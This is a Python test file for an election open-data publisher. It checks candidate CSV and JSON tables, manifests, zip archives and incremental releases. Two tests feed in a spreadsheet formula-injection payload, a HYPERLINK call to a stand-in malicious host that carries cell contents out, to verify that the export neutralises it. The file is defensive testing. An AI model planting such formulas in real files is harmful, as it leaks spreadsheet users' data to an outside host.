"""The open data's rows, made from the public profiles alone, and the package's files:
what a journalist opening the CSV in a spreadsheet sees, and what a script verifies."""

import csv
import hashlib
import io
import itertools
import json
import zipfile
import zlib
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from contracts.events.capture import PublicCurricular, PublicIdentity
from services.publication.adapters import data_package
from services.publication.adapters.data_package import package
from services.publication.domain import open_data
from services.publication.domain.open_data import ElectionNames, Fingerprint, document
from services.runtime.spreadsheets import csv_text
from tests.support.open_data import (
    CATALOGUE,
    PARTIES,
    alternate_photo,
    package_problems,
    public_profile,
)

NAMES = ElectionNames.of(PARTIES, CATALOGUE)
NOW = datetime(2027, 4, 2, 18, 30, 5, tzinfo=UTC)
PIECE = data_package.PIECE_BYTES


NO_SLICE = {"postulacion": "", "cargo": "", "sexo": ""}
STATISTICS = {
    "progress": [
        {
            "postulant": "pan",
            "name": "Partido Acción Nacional",
            "acronym": "PAN",
            "candidacies": 3,
            "submitted": 2,
            "validated": 2,
            "published": 1,
        }
    ],
    "sex": [{"category": "Mujer", "people": 12}],
    "age": [],
    "education": [],
    "groups": [
        {
            "group": "Persona indígena",
            "office": "diputacion-mr",
            "postulant": "pan",
            "sex": "Mujer",
            "people": None,
            "text": "menos de 5",
        }
    ],
}


def rows_of(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8"), newline="")))


def built(statistics: object | None = None) -> dict[str, bytes]:
    tables = open_data.tables([document(public_profile(1)), document(public_profile(2))], NAMES)
    stats = None if statistics is None else (statistics, open_data.statistics_table(statistics))
    made = package(
        tables,
        election_id="local-2027",
        election_name="Elección local 2027",
        institute="IEEM",
        release_id="2027-04-02T183005Z",
        created_at=NOW,
        statistics=stats,
    )
    return contents(made)


def contents(made: data_package.Package) -> dict[str, bytes]:
    """Every file of the package as a person downloads it, the zip included."""
    files = {f.name: f.content() for f in made.files}
    return files | {made.archive.name: made.archive.content}


def test_each_person_of_a_formula_is_a_row_under_the_column_names_ine_publishes() -> None:
    rows = open_data.candidacy_rows(document(public_profile(7)), NAMES)
    assert [(r["tipo_candidato"], r["nombre"], r["edad"]) for r in rows] == [
        ("Propietaria", "María Fernanda", 44),
        ("Suplente", "Lucía", 31),
    ]
    owner = rows[0]
    assert owner["partido_coalicion"] == "PAN"
    assert owner["cargo"] == "Diputación local de mayoría relativa"
    assert owner["distrito"] == "Distrito 01 Toluca"
    assert owner["municipio"] is None
    assert owner["nombre_candidato"] == "María Fernanda Ávila Núñez"
    assert owner["sexo"] == "Mujer"
    assert owner["fecha_publicacion"] == "2027-04-01T06:00:00Z"


def test_every_public_curricular_field_has_its_column_and_lists_are_one_cell() -> None:
    assert set(open_data.CURRICULAR_COLUMNS) == set(PublicCurricular.model_fields)
    row, alternate = open_data.curricular_rows(document(public_profile(3)))
    assert (row["calidad"], row["nombre_candidato"]) == (
        "Propietaria",
        "María Fernanda Ávila Núñez",
    )
    assert row["correo_electronico"] == "c3@ejemplo.mx | equipo3@ejemplo.mx"
    assert row["cursos"] == "Derecho electoral | Finanzas públicas"
    assert row["escolaridad"] == "Licenciatura"
    assert row["url_fotografia"] == f"/fotos/{3:064x}"
    assert row["tiktok"] is None  # unanswered: an empty cell
    titles = {c.name: c.title for c in open_data.CURRICULAR_TABLE.columns}
    assert titles["propuesta_genero"].startswith("Propuesta en materia de género")
    # the alternate's own answers and photo, on a row of its own
    assert (alternate["calidad"], alternate["nombre_candidato"]) == (
        "Suplente",
        "Lucía Ávila Núñez",
    )
    assert alternate["escolaridad"] == "Maestría"
    assert str(alternate["propuesta_1"]).startswith("Propuesta de la suplente 3")
    assert alternate["url_fotografia"] == f"/fotos/{alternate_photo(3)}"
    assert alternate["correo_electronico"] is None  # the owner's answers stay the owner's


def test_the_dictionary_says_whose_answers_each_row_holds() -> None:
    for spec in (open_data.CURRICULAR_TABLE, open_data.IDENTITY_TABLE):
        quality = {c.name: c for c in spec.columns}["calidad"]
        assert "Propietaria o Suplente" in quality.description
        assert "persona" in spec.description
    candidacies = {c.name for c in open_data.CANDIDACIES.columns}
    assert "tipo_candidato" in candidacies  # the same words, INE's column name


def test_only_public_identity_answers_are_a_row() -> None:
    assert set(c.name for c in open_data.IDENTITY_TABLE.columns) == {
        "id_candidatura",
        "clave_formula",
        "calidad",
        "nombre_candidato",
        *PublicIdentity.model_fields,
    }
    assert "nivel_ingresos" not in {c.name for c in open_data.IDENTITY_TABLE.columns}
    assert open_data.identity_rows(document(public_profile(2))) == []  # none public
    (row,) = open_data.identity_rows(document(public_profile(1)))  # the owner's alone
    assert row["calidad"] == "Propietaria"
    assert row["pueblo_indigena"] == "Mazahua" and row["discapacidad"] is None
    consented = public_profile(2, alternate_identity=PublicIdentity(discapacidad="Sí"))
    (alternate,) = open_data.identity_rows(document(consented))
    assert (alternate["calidad"], alternate["nombre_candidato"]) == (
        "Suplente",
        "Lucía Ávila Núñez",
    )
    assert alternate["discapacidad"] == "Sí" and alternate["indigena"] is None
    both = public_profile(1, alternate_identity=PublicIdentity(discapacidad="Sí"))
    assert [r["calidad"] for r in open_data.identity_rows(document(both))] == [
        "Propietaria",
        "Suplente",
    ]


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_a_proposal_that_would_run_as_a_formula_comes_out_inert_in_the_csv(lead: str) -> None:
    attack = f'{lead}HYPERLINK("https://malicioso.example/?d="&A1,"Ver propuesta")'
    profile = public_profile(1, propuesta_1=attack + " " + "x" * 300)
    tables = open_data.tables([document(profile)], NAMES)
    files = package(
        tables,
        election_id="local-2027",
        election_name="Elección",
        institute=None,
        release_id="2027-04-02T183005Z",
        created_at=NOW,
    ).files
    content = {f.name: f.content() for f in files}
    cell = rows_of(content["curricular.csv"])[0]["propuesta_1"]
    assert cell.startswith("'" + lead)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    # The JSON keeps the text as published; numbers stay numbers in the CSV.
    assert json.loads(content["curricular.json"])[0]["propuesta_1"].startswith(lead)
    assert rows_of(content["candidaturas.csv"])[0]["edad"] == "44"


def test_the_package_validates_and_its_manifest_verifies(tmp_path: Path) -> None:
    files = built(statistics=STATISTICS)
    for name, content in files.items():
        (tmp_path / name).write_bytes(content)
    assert package_problems(tmp_path / "datapackage.json") == []

    descriptor = json.loads(files["datapackage.json"])
    assert descriptor["licenses"][0]["name"] == "CC-BY-4.0"
    assert descriptor["created"] == "2027-04-02T18:30:05Z"
    fields = descriptor["resources"][0]["schema"]["fields"]
    assert {"name": "cargo", "title": "Cargo"}.items() <= fields[6].items()

    listed = dict(
        reversed(line.split("  ")) for line in files["manifest.sha256"].decode().splitlines()
    )
    assert set(listed) == set(files) - {
        "manifest.sha256",
        *(n for n in files if n.endswith(".zip")),
    }
    assert all(hashlib.sha256(files[n]).hexdigest() == digest for n, digest in listed.items())
    # each figure a row a person reads without the JSON: names, stages, «menos de 5»
    assert rows_of(files["estadisticas.csv"]) == [
        {
            **NO_SLICE,
            "tabla": "avance_captura",
            "postulacion": "Partido Acción Nacional",
            "categoria": stage,
            "valor": value,
            "texto": value,
        }
        for stage, value in (
            ("registradas", "3"),
            ("enviadas", "2"),
            ("validadas", "2"),
            ("publicadas", "1"),
        )
    ] + [
        {**NO_SLICE, "tabla": "sexo", "categoria": "Mujer", "valor": "12", "texto": "12"},
        {
            "tabla": "grupos_identidad",
            "postulacion": "pan",
            "cargo": "diputacion-mr",
            "sexo": "Mujer",
            "categoria": "Persona indígena",
            "valor": "",
            "texto": "menos de 5",
        },
    ]
    (archive,) = (n for n in files if n.endswith(".zip"))
    with zipfile.ZipFile(io.BytesIO(files[archive])) as opened:
        assert sorted(opened.namelist()) == sorted(set(files) - {archive})


def test_the_same_profiles_give_the_same_bytes() -> None:
    assert built() == built()


def test_a_release_is_due_when_the_public_data_changed_and_the_last_is_old_enough() -> None:
    now = NOW
    data = Fingerprint(last_sequence=9, profiles=4, extra="-")
    assert open_data.due(data, None, None, now, 300)
    assert not open_data.due(data, data.text(), now - timedelta(hours=1), now, 300)
    changed = Fingerprint(last_sequence=10, profiles=4, extra="-")
    assert open_data.due(changed, data.text(), now - timedelta(seconds=301), now, 300)
    assert not open_data.due(changed, data.text(), now - timedelta(seconds=30), now, 300)


def test_release_names_are_moments_and_never_repeat() -> None:
    assert open_data.release_id(NOW, None) == "2027-04-02T183005Z"
    assert open_data.release_id(NOW, "2027-04-02T183005Z") == "2027-04-02T183006Z"
    assert open_data.release_id(NOW + timedelta(minutes=1), "2027-04-02T183005Z") == (
        "2027-04-02T183105Z"
    )


def test_every_file_in_the_zip_is_the_file_itself() -> None:
    files = built(statistics=STATISTICS)
    (archive,) = (n for n in files if n.endswith(".zip"))
    with zipfile.ZipFile(io.BytesIO(files[archive])) as opened:
        assert opened.testzip() is None
        for name in opened.namelist():
            assert opened.read(name) == files[name]


def test_a_cell_with_quotes_commas_or_line_ends_reads_back_as_written() -> None:
    tricky = 'Dijo "agua, luz"\r\ny drenaje, ya'
    profile = public_profile(1, propuesta_1=tricky, propuesta_2="-5 % de impuestos")
    (_, curricular, _) = open_data.tables([document(profile)], NAMES)
    content = data_package.csv_bytes(curricular)
    names = [c.name for c in curricular.spec.columns]
    as_the_house_writes = csv_text(
        [names, *([row.get(n) for n in names] for row in curricular.rows)]
    )
    assert content == as_the_house_writes.encode("utf-8")
    row, alternate = rows_of(content)
    assert row["propuesta_1"] == tricky and row["propuesta_2"] == "'-5 % de impuestos"
    assert alternate["calidad"] == "Suplente" and alternate["propuesta_2"] == ""


KEPT = (b"cabecera\r\n", hashlib.sha256(b"x").digest() * (PIECE // 16), b"", b"fin" * 999)
"""A file's sections as a release keeps them: its header, a group longer than a section
(two sections), a group without rows (an empty section) and a short one."""
KEPT_SIZE = sum(len(p) for p in KEPT)


@pytest.mark.parametrize(
    "offset", [0, 1, 9, 10, PIECE - 1, PIECE + 10, 2 * PIECE + 9, 2 * PIECE + 10, KEPT_SIZE]
)
def test_any_part_of_a_kept_file_inflates_to_the_files_own_bytes(offset: int) -> None:
    content = b"".join(KEPT)
    kept_sections = [s for part in KEPT for s in data_package.sections(part, "grupo")]
    assert len(kept_sections) == 5
    ends = list(itertools.accumulate(len(s.deflated) for s in kept_sections))
    raw_ends = list(itertools.accumulate(s.size for s in kept_sections))
    kept = b"".join(s.deflated for s in kept_sections)
    span = data_package.piece_span(ends, raw_ends, offset, PIECE)
    expected = content[offset : offset + PIECE]
    if span is None:
        assert expected == b""
        return
    part = data_package.inflated_part(kept[span.start : span.stop], span, PIECE)
    assert part == expected
    stream = kept + data_package.STREAM_END
    assert zlib.decompressobj(-15).decompress(stream) == content  # one deflate stream


def unpacked(made: data_package.Package) -> dict[str, bytes]:
    """The files, and the files as the zip gives them (its own bytes depend on how the
    files were cut into sections)."""
    with zipfile.ZipFile(io.BytesIO(made.archive.content)) as opened:
        zipped = {f"zip/{name}": opened.read(name) for name in opened.namelist()}
    return {f.name: f.content() for f in made.files} | zipped


def reference(documents: list[open_data.Document]) -> dict[str, bytes]:
    """The files as a release makes them from every profile's document at once."""
    return unpacked(packaged(open_data.tables(documents, NAMES)))


def packaged(tables: list[open_data.Table] | list[data_package.TableParts]) -> data_package.Package:
    return package(
        tables,
        election_id="local-2027",
        election_name="Elección local 2027",
        institute="IEEM",
        release_id="2027-04-02T183005Z",
        created_at=NOW,
    )


def made_anew(
    documents: list[open_data.Document], changed: frozenset[str] = frozenset()
) -> list[data_package.GroupParts]:
    """Each group of the profiles made from its profiles' rows (those ``changed`` at
    their second change, the others at their first)."""
    in_order = sorted(documents, key=lambda d: str(d["candidacy_id"]))
    pieces = {str(d["candidacy_id"]): data_package.profile_pieces(d, NAMES) for d in in_order}
    ids = [str(d["candidacy_id"]) for d in in_order]
    members = [(i, 2 if i in changed else 1) for i in ids]
    return [
        data_package.GroupParts(g.key, pieces=[pieces[i] for i in g.candidacy_ids])
        for g in open_data.profile_groups(members, NAMES.digest())
    ]


@pytest.mark.parametrize("count", [0, 1, 7])
def test_the_rows_made_with_each_profile_join_into_the_same_files(count: int) -> None:
    tricky = '=HYPERLINK("https://malicioso.example") dijo "agua, luz"\r\ny drenaje'
    documents = [
        document(public_profile(n, propuesta_1=tricky if n % 2 else f"Propuesta {n}"))
        for n in range(count, 0, -1)  # in any order: the release puts them in order
    ]
    joined = unpacked(packaged(data_package.grouped_tables(made_anew(documents))))
    assert joined == reference(documents)
    if count:
        assert rows_of(joined["curricular.csv"])[0]["propuesta_1"].startswith("'=HYPERLINK")
        assert json.loads(joined["curricular.json"])[0]["propuesta_1"] == tricky


def members(count: int) -> list[tuple[str, int]]:
    return [(f"C{n:05d}", 1) for n in range(count)]


def test_profiles_are_cut_into_groups_that_one_change_leaves_alone_but_its_own(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(open_data, "GROUP_PROFILES", 16)
    everyone = members(3000)
    groups = open_data.profile_groups(everyone, NAMES.digest())
    assert [i for g in groups for i in g.candidacy_ids] == [i for i, _ in everyone]
    assert 3000 / 16 / 2 < len(groups) < 3000 / 16 * 2
    assert max(len(g.candidacy_ids) for g in groups) <= 4 * 16

    def changed(after: list[tuple[str, int]]) -> set[str]:
        return {g.key for g in open_data.profile_groups(after, NAMES.digest())} - {
            g.key for g in groups
        }

    one_changed = [(i, 2) if i == "C01500" else (i, s) for i, s in everyone]
    assert len(changed(one_changed)) == 1
    published = sorted([*everyone, ("C01500b", 1)])
    assert 1 <= len(changed(published)) <= 2
    withdrawn = [m for m in everyone if m[0] != "C01500"]
    assert 1 <= len(changed(withdrawn)) <= 2
    assert len(changed(everyone)) == 0
    renamed = open_data.profile_groups(everyone, "otros nombres")
    assert not {g.key for g in renamed} & {g.key for g in groups}


def kept_of(made: data_package.Package) -> dict[str, dict[str, tuple[data_package.Section, ...]]]:
    """What a next release finds of this one (store/releases.py ``kept_sections``)."""
    kept: dict[str, dict[str, tuple[data_package.Section, ...]]] = {}
    for file in made.files:
        for section in file.sections:
            if section.key:
                found = kept.setdefault(file.name, {}).get(section.key, ())
                kept[file.name][section.key] = (*found, section)
    return kept


def test_a_release_reusing_the_last_ones_groups_gives_the_files_made_anew(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(open_data, "GROUP_PROFILES", 3)
    documents = [  # only two with a public identity answer: most groups have no such row
        document(
            public_profile(n)
            if n in (5, 33)
            else public_profile(n).model_copy(update={"identity": PublicIdentity()})
        )
        for n in range(1, 40)
    ]
    first = packaged(data_package.grouped_tables(made_anew(documents)))
    assert unpacked(first) == reference(documents)
    changed = [*documents[:20], document(public_profile(21, propuesta_1="Otra")), *documents[21:]]
    kept = kept_of(first)
    groups = made_anew(changed, frozenset({"C0021"}))
    reused = [
        data_package.GroupParts(g.key, kept={n: kept[n][g.key] for n in data_package.DATA_FILES})
        if g.key in kept["curricular.csv"]
        else g
        for g in groups
    ]
    assert sum(g.kept is None for g in reused) == 1 and len(reused) > 5
    second = packaged(data_package.grouped_tables(reused))
    assert unpacked(second) == reference(changed)
    assert json.loads(unpacked(second)["identidad.json"])[0]["pueblo_indigena"] == "Mazahua"


def test_rows_are_made_again_when_what_they_show_beside_the_ids_changes() -> None:
    renamed = CATALOGUE.model_copy(
        update={"offices": [o.model_copy(update={"name": "Diputación"}) for o in CATALOGUE.offices]}
    )
    assert ElectionNames.of(PARTIES, CATALOGUE).digest() == NAMES.digest()
    assert ElectionNames.of(PARTIES, renamed).digest() != NAMES.digest()
    assert ElectionNames.of(PARTIES[:1], CATALOGUE).digest() != NAMES.digest()
